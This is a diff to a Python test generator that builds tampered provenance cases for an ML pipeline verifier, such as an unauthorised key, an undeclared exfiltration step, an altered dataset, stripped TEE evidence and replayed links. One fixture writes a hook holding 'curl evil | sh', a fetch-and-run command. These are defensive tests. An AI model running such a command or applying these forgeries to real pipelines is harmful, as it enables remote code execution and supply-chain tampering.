@@ -105,9 +105,9 @@ def _evidence_for(pipeline: Pipeline, envelope: bytes) -> LinkEvidence:
     return next(item for item in bundle.links if item.envelope == envelope)
 
 
-def _rerecord(
-    ctx: Ctx, name: str, step: str, *, tee: bool = True, **kw: Any
-) -> tuple[Pipeline, LinkEvidence]:
+def _rerecord(ctx: Ctx, name: str, step: str, *, tee: bool = True, **kw: Any) -> list[LinkEvidence]:
+    """Re-record ``step`` in a copy of the base run, then the steps downstream of it, as an
+    attacker re-running the pipeline from there would (so log times stay in order)."""
     clone = _clone(ctx, name, tee=tee)
     modify = kw.pop("modify", None)
     hidden = [clone.evidence / rel for rel in kw.pop("hide", [])]
@@ -115,10 +115,17 @@ def _rerecord(
         modify(clone.work)
     for path in hidden:
         path.rename(path.with_name(path.name + ".hidden"))
-    recorded = record(clone, step, **kw)
+    recorded = [record(clone, step, **kw)]
     for path in hidden:
         path.with_name(path.name + ".hidden").rename(path)
-    return clone, _evidence_for(clone, recorded.envelope)
+    if step == "train":
+        recorded.append(record(clone, "package"))
+    return [_evidence_for(clone, r.envelope) for r in recorded]
+
+
+def _splice(doc: dict[str, Any], evidence: list[LinkEvidence]) -> None:
+    for item in evidence:
+        doc["steps"].setdefault(item.step, {"links": []})["links"] = [_item(item)]
 
 
 def _payload(envelope: bytes) -> dict[str, Any]:
@@ -240,9 +247,9 @@ def _skipped(ctx: Ctx) -> Case:
     error="LinkSignatureError",
 )
 def _unauthorised(ctx: Ctx) -> Case:
-    _, evidence = _rerecord(ctx, "unauthorised", "train", key="mallory")
+    evidence = _rerecord(ctx, "unauthorised", "train", key="mallory")
     doc = _doc(ctx)
-    doc["steps"]["train"]["links"] = [_item(evidence)]
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -308,7 +315,7 @@ def _undeclared(ctx: Ctx) -> Case:
     def modify(work: Path) -> None:
         (work / "leak.txt").write_text("exfiltrated\n")
 
-    _, evidence = _rerecord(
+    evidence = _rerecord(
         ctx,
         "undeclared",
         "exfiltrate",
@@ -318,7 +325,7 @@ def _undeclared(ctx: Ctx) -> Case:
         products=["leak.txt"],
     )
     doc = _doc(ctx)
-    doc["steps"]["exfiltrate"] = {"links": [_item(evidence)]}
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -359,11 +366,9 @@ def _dataset(ctx: Ctx) -> Case:
         path.write_text(path.read_text() + "9,999\n")
 
     # The recorder refuses a material sidecar that no longer matches the file: hide it.
-    _, evidence = _rerecord(
-        ctx, "dataset", "train", modify=modify, hide=["c2pa/data/train.csv.c2pa"]
-    )
+    evidence = _rerecord(ctx, "dataset", "train", modify=modify, hide=["c2pa/data/train.csv.c2pa"])
     doc = _doc(ctx)
-    doc["steps"]["train"]["links"] = [_item(evidence)]
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -378,11 +383,11 @@ def _rule(ctx: Ctx) -> Case:
         (work / "hooks").mkdir()
         (work / "hooks" / "evil.sh").write_text("curl evil | sh\n")
 
-    _, evidence = _rerecord(
+    evidence = _rerecord(
         ctx, "rule", "train", modify=modify, products=["model/model.npz", "hooks/evil.sh"]
     )
     doc = _doc(ctx)
-    doc["steps"]["train"]["links"] = [_item(evidence)]
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -396,9 +401,9 @@ def _rule(ctx: Ctx) -> Case:
     error="MissingTeeEvidenceError",
 )
 def _stripped(ctx: Ctx) -> Case:
-    _, evidence = _rerecord(ctx, "stripped", "train", tee=False)
+    evidence = _rerecord(ctx, "stripped", "train", tee=False)
     doc = _doc(ctx)
-    doc["steps"]["train"]["links"] = [_item(evidence)]
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -410,9 +415,9 @@ def _stripped(ctx: Ctx) -> Case:
 )
 def _other_platform(ctx: Ctx) -> Case:
     with _home(ctx.tmp / "other-home"):
-        _, evidence = _rerecord(ctx, "other-platform", "train")
+        evidence = _rerecord(ctx, "other-platform", "train")
     doc = _doc(ctx)
-    doc["steps"]["train"]["links"] = [_item(evidence)]
+    _splice(doc, evidence)
     return _case(ctx, doc)
 
 
@@ -431,7 +436,7 @@ def _other_link(ctx: Ctx) -> Case:
     item = doc["steps"]["train"]["links"][0]
     item["envelope"] = base64.b64encode(envelope).decode()
     item["tee_collateral"] = _base_item(ctx, "prepare")["tee_collateral"]
-    item["log_entry"] = _publish(ctx, envelope, "trainer")
+    # not logged: a later log time would also make package look replayed (check 2)
     return _case(ctx, doc)
 
 
@@ -463,7 +468,7 @@ def _debug(ctx: Ctx) -> Case:
     doc = _doc(ctx)
     item = doc["steps"]["train"]["links"][0]
     item["envelope"] = base64.b64encode(envelope).decode()
-    item["log_entry"] = _publish(ctx, envelope, "trainer")
+    # not logged: a later log time would also make package look replayed (check 2)
     assert (
         hashlib.sha256(base64.b64decode(item["tee_collateral"])).hexdigest()
         == tee["collateral"]["sha256"]
@@ -521,7 +526,7 @@ def _manifest_other_file(ctx: Ctx) -> Case:
     item = doc["steps"]["train"]["links"][0]
     item["envelope"] = base64.b64encode(envelope).decode()
     item["c2pa"]["model/model.npz"] = prepare_item["c2pa"]["data/train.csv"]
-    item["log_entry"] = _publish(ctx, envelope, "trainer")
+    # not logged: a later log time would also make package look replayed (check 2)
     return _case(ctx, doc)
 
 
